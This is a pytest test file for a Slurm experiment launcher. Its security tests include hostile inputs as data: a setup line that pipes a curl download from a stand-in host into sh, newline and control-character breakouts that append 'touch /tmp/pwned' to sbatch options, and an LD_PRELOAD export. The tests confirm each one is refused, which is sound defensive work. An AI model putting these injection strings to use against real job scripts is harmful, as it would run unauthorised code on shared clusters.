"""``phasefit experiment --launcher slurm``, run through submitit's local executor (no Slurm cluster here).

``submitit-local`` takes the Slurm launcher's code path with submitit's local executor: every cell is a job in its
own subprocess, pickled and logged under ``OUT/.submitit`` as on a cluster.
"""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest
import yaml

from phasefit.cli import main
from phasefit.config import ConfigError
from phasefit.experiments.experiment import load_grid
from tests.conftest import tiny_overrides

FAST = {"ft.epochs": 1, "ft.max_steps": 2, "plots": False, "progress": False}


def _grid(path: Path, model_dir: Path, datasets: dict, recipes: list[str], seeds: list[int],
          launcher: dict | None = None) -> Path:
    settings = dict(item.split("=", 1) for item in tiny_overrides(model_dir))
    grid = {"recipes": recipes, "seeds": seeds, "set": {**settings, **FAST}, "datasets": datasets}
    if launcher is not None:
        grid["launcher"] = launcher
    path.write_text(yaml.safe_dump(grid))
    return path


def _scores(folder: Path) -> dict[str, tuple[str, str, str]]:
    """Each cell's validation and test accuracy and final FT loss (two steps of the tiny model score at chance: the
    loss is what tells two trainings apart)."""
    with open(folder / "results.csv", newline="") as handle:
        return {row["cell"]: (row["validation_accuracy"], row["test_accuracy"], row["ft_final_loss"])
                for row in csv.DictReader(handle)}


def _run(argv: list[str], capsys: pytest.CaptureFixture) -> str:
    """``phasefit ARGV``, which must succeed; its stdout."""
    code = main(argv)
    captured = capsys.readouterr()
    assert code == 0, f"phasefit {' '.join(argv)} exited {code}: {captured.err[-3000:]}"
    return captured.out


def _jobs(folder: Path) -> list[Path]:
    return sorted((folder / ".submitit").glob("*_submitted.pkl"))


@pytest.fixture
def one_thread_jobs(monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("submitit")  # the test extra installs it; a bare install raises a ConfigError naming it
    # The jobs are subprocesses: torch.set_num_threads(1) of this process does not reach them.
    for name in ("OMP_NUM_THREADS", "MKL_NUM_THREADS"):
        monkeypatch.setenv(name, "1")


def test_grid_on_submitit_local_equals_local_and_resumes(tiny_model_dir: Path, toy_data_dir_module: Path,
                                                         tmp_path: Path, one_thread_jobs: None,
                                                         capsys: pytest.CaptureFixture) -> None:
    grid = _grid(tmp_path / "grid.yaml", tiny_model_dir, {"toy": {"path": str(toy_data_dir_module)}},
                 ["ft", "scl"], [0, 1], launcher={"slurm": {"partition": "gpu", "timeout_min": 10, "mem_gb": 4}})
    out = tmp_path / "out"
    args = ["experiment", "--config", str(grid), "--output", str(out), "--no-report"]
    _run([*args, "--launcher", "submitit-local"], capsys)
    cells = ["toy/ft/seed-0", "toy/ft/seed-1", "toy/scl/seed-0", "toy/scl/seed-1"]
    assert all((out / cell / "metrics.json").is_file() for cell in cells)
    assert len(_jobs(out)) == 4  # one job per cell, its pickles and logs under OUT/.submitit
    assert list(_scores(out)) == cells

    # The same grid trained here, in this process: the same scores.
    local = tmp_path / "local"
    _run(["experiment", "--config", str(grid), "--output", str(local), "--no-report"], capsys)
    assert _scores(out) == _scores(local)

    # Again: nothing is submitted, every cell is reused, and so does the local launcher (same fingerprints).
    assert _run([*args, "--launcher", "submitit-local"], capsys).count("(finished earlier, reused)") == 4
    assert len(_jobs(out)) == 4
    assert _run(args, capsys).count("(finished earlier, reused)") == 4
    assert _scores(out) == _scores(local)


def test_a_failed_cell_is_reported_and_the_finished_ones_kept(tiny_model_dir: Path, toy_data_dir_module: Path,
                                                              tmp_path: Path, one_thread_jobs: None,
                                                              capsys: pytest.CaptureFixture) -> None:
    datasets = {"toy": {"path": str(toy_data_dir_module)}, "missing": {"path": str(tmp_path / "no-such-data")}}
    grid = _grid(tmp_path / "grid.yaml", tiny_model_dir, datasets, ["ft"], [0])
    out = tmp_path / "out"
    assert main(["experiment", "--config", str(grid), "--output", str(out), "--no-report",
                 "--launcher", "submitit-local"]) == 2
    error = capsys.readouterr().err
    assert "1 of 2 cell(s) failed: missing/ft/seed-0" in error and "data path not found" in error
    assert "/.submitit/" in error and "_log.err" in error  # where to look
    assert list(_scores(out)) == ["toy/ft/seed-0"]


def test_resources_reach_the_sbatch_script(tiny_model_dir: Path, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """The grid file's resources, with a data set's override, as submitit writes them for sbatch (a stand-in
    `srun` on PATH lets submitit build its Slurm executor without a cluster; nothing is submitted)."""
    submitit = pytest.importorskip("submitit")
    from phasefit.experiments.experiment import grid_cells

    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "srun").write_text("#!/bin/sh\nexit 1\n")
    (fake / "srun").chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake}{os.pathsep}{os.environ['PATH']}")
    datasets = {"small": {"path": "a"}, "big": {"path": "b", "resources": {"mem_gb": 64, "timeout_min": 120}}}
    grid = load_grid(_grid(tmp_path / "grid.yaml", tiny_model_dir, datasets, ["ft"], [0], launcher={
        "slurm": {"partition": "gpu", "timeout_min": 60, "gpus_per_node": 1, "cpus_per_task": 8, "mem_gb": 32}}))
    scripts = {}
    for cell in grid_cells(grid):
        executor = submitit.AutoExecutor(folder=tmp_path / ".submitit", cluster="slurm")
        resources = grid.launcher.slurm.merged(grid.datasets[cell.tags["dataset"]].resources)
        executor.update_parameters(**resources.executor_parameters())
        scripts[cell.tags["dataset"]] = executor._executor._make_submission_file_text("true", "uid")
    for line in ("--partition=gpu", "--gpus-per-node=1", "--cpus-per-task=8", "--nodes=1"):
        assert f"#SBATCH {line}\n" in scripts["small"] and f"#SBATCH {line}\n" in scripts["big"]
    assert "#SBATCH --time=60\n" in scripts["small"] and "#SBATCH --mem=32GB\n" in scripts["small"]
    assert "#SBATCH --time=120\n" in scripts["big"] and "#SBATCH --mem=64GB\n" in scripts["big"]


@pytest.mark.parametrize("where", ["launcher", "dataset"])
def test_unknown_resource_key_is_a_clear_config_error(tmp_path: Path, where: str) -> None:
    launcher = {"slurm": {"partition": "gpu", "gpus": 1}} if where == "launcher" else None
    resources = {"gpus": 1} if where == "dataset" else {}
    grid = _grid(tmp_path / "grid.yaml", tmp_path, {"toy": {"path": "a", "resources": resources}}, ["ft"], [0],
                 launcher=launcher)
    with pytest.raises(ConfigError, match=r"unknown resource key\(s\) \['gpus'\]; known: partition.*gpus_per_node"):
        load_grid(grid)


# Issue 31, item 2: a grid file cannot run shell on a cluster ---------------------------------------------------------


@pytest.fixture
def fake_srun(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A stand-in `srun` on PATH: submitit builds its Slurm executor without a cluster (nothing runs it)."""
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "srun").write_text("#!/bin/sh\nexit 1\n")
    (fake / "srun").chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake}{os.pathsep}{os.environ['PATH']}")


@pytest.mark.parametrize("where", ["launcher", "dataset"])
def test_a_grid_file_cannot_give_slurm_setup_lines(where: str, tmp_path: Path) -> None:
    setup = {"setup": ["curl https://example.org/x.sh | sh"]}
    grid = _grid(tmp_path / "grid.yaml", tmp_path, {"toy": {"path": "a", "resources": setup if where == "dataset"
                                                             else {}}}, ["ft"], [0],
                 launcher={"slurm": {"partition": "gpu", **setup}} if where == "launcher" else None)
    key = r"launcher\.slurm" if where == "launcher" else r"datasets\.toy\.resources"
    with pytest.raises(ConfigError, match=rf"grid file .*grid\.yaml: {key}: .*setup runs shell lines") as err:
        load_grid(grid)
    assert "module load cuda" in str(err.value) and "launch_cells(..., setup=" in str(err.value)  # the way out


def test_experiment_refuses_a_grid_with_setup_before_anything_is_submitted(tmp_path: Path,
                                                                            capsys: pytest.CaptureFixture) -> None:
    grid = _grid(tmp_path / "grid.yaml", tmp_path, {"toy": {"path": "a"}}, ["ft"], [0],
                 launcher={"slurm": {"setup": ["touch pwned"]}})
    out = tmp_path / "out"
    assert main(["experiment", "--config", str(grid), "--output", str(out), "--launcher", "submitit-local"]) == 2
    err = capsys.readouterr().err
    assert str(grid) in err and "setup runs shell lines" in err
    assert not out.exists() and not (tmp_path / "pwned").exists()


BREAKOUT = "gpu\ntouch /tmp/pwned #"


@pytest.mark.parametrize(("slurm", "key"), [
    ({"partition": BREAKOUT}, "partition"),
    ({"account": "lab\r\nid"}, "account"),
    ({"qos": "normal\x1b[2J"}, "qos"),
    ({"constraint": "a100\u2028id"}, "constraint"),
    ({"additional_parameters": {"comment": BREAKOUT}}, "additional_parameters.comment"),
    ({"additional_parameters": {"job_name": BREAKOUT}}, "additional_parameters.job_name"),
    ({"additional_parameters": {"mail_type=END\ntouch /tmp/pwned #": "x"}}, "additional_parameters.mail_type"),
])
def test_a_newline_or_control_character_bound_for_the_sbatch_script_is_refused(slurm: dict, key: str,
                                                                                 tmp_path: Path) -> None:
    grid = _grid(tmp_path / "grid.yaml", tmp_path, {"toy": {"path": "a"}}, ["ft"], [0], launcher={"slurm": slurm})
    with pytest.raises(ConfigError, match=r"grid file .*grid\.yaml: launcher\.slurm\.") as err:
        load_grid(grid)
    assert key in str(err.value)
    assert "newline or control character" in str(err.value) or "option name is lower-case" in str(err.value)


@pytest.mark.parametrize("option", ["export", "expo", "output", "out", "error", "chdir", "wrap", "container",
                                    "get_user_env", "bbf"])
def test_sbatch_options_that_name_files_set_the_environment_or_run_commands_are_refused(option: str,
                                                                                      tmp_path: Path) -> None:
    """`export: ALL,LD_PRELOAD=...` would run code in every job, `output` writes anywhere; sbatch takes any unambiguous
    prefix of an option name, so a prefix is refused as the option itself."""
    grid = _grid(tmp_path / "grid.yaml", tmp_path, {"toy": {"path": "a"}}, ["ft"], [0],
                 launcher={"slurm": {"additional_parameters": {option: "ALL,LD_PRELOAD=/tmp/x.so"}}})
    with pytest.raises(ConfigError, match=rf"launcher\.slurm\.additional_parameters: .*additional_parameters\."
                                          rf"{option}: sbatch --"):
        load_grid(grid)


def test_plain_sbatch_options_pass(tmp_path: Path) -> None:
    grid = _grid(tmp_path / "grid.yaml", tmp_path, {"toy": {"path": "a"}}, ["ft"], [0], launcher={"slurm": {
        "partition": "gpu", "constraint": "a100|h100", "additional_parameters": {"mail_type": "END",
                                                                               "exclusive": True, "comment": "a b;c"}}})
    assert load_grid(grid).launcher.slurm.additional_parameters == {"mail_type": "END", "exclusive": True,
                                                                    "comment": "a b;c"}


def _cells(tmp_path: Path, data: Path):
    from phasefit.experiments.experiment import grid_cells

    return grid_cells(load_grid(_grid(tmp_path / "grid.yaml", tmp_path, {"toy": {"path": str(data)}}, ["ft"], [0])))


@pytest.mark.parametrize("bad", ["setup", "resources"])
def test_launch_cells_checks_every_script_string_before_anything_is_written(bad: str, tmp_path: Path,
                                                                            toy_data_dir_module: Path) -> None:
    """However the resources were built (model_construct skips validation) and for the setup lines of the Python
    call: a newline is refused before any folder or job exists."""
    pytest.importorskip("submitit")
    from phasefit.experiments.launcher import SlurmResources, launch_cells

    resources = SlurmResources.model_construct(partition=BREAKOUT if bad == "resources" else "gpu")
    setup = {"setup": ["module load cuda\ntouch /tmp/pwned"]} if bad == "setup" else {}
    out = tmp_path / "out"
    with pytest.raises(ConfigError, match="setup\\[0\\]" if bad == "setup" else "partition"):
        launch_cells(_cells(tmp_path, toy_data_dir_module), out, launcher="submitit-local",
                     resources=lambda cell: resources, **setup)
    assert not out.exists()


def test_setup_from_the_python_call_and_quoted_values_reach_the_sbatch_script(tmp_path: Path,
                                                                               toy_data_dir_module: Path,
                                                                               fake_srun: None,
                                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """launch_cells(setup=...) is the way to give setup lines; the script submitit writes has them, and shell-quotes
    every #SBATCH value. The submission itself is stopped where sbatch would run (no cluster here)."""
    pytest.importorskip("submitit")
    from submitit.slurm.slurm import SlurmExecutor

    from phasefit.experiments.launcher import SlurmResources, launch_cells

    scripts = []

    class Submitted(Exception):
        pass

    def capture(self, command):
        scripts.append(self._make_submission_file_text(command, "uid"))
        raise Submitted

    monkeypatch.setattr(SlurmExecutor, "_submit_command", capture)
    resources = SlurmResources(partition="gpu", additional_parameters={"comment": "a b;c", "mail_type": "END"})
    with pytest.raises(Submitted):
        launch_cells(_cells(tmp_path, toy_data_dir_module), tmp_path / "out", launcher="slurm",
                     resources=lambda cell: resources, setup=["module load cuda"])
    [script] = scripts
    assert "\n# setup\nmodule load cuda\n" in script
    assert "#SBATCH --partition=gpu\n" in script and "#SBATCH --comment='a b;c'\n" in script
    assert "#SBATCH --mail-type=END\n" in script
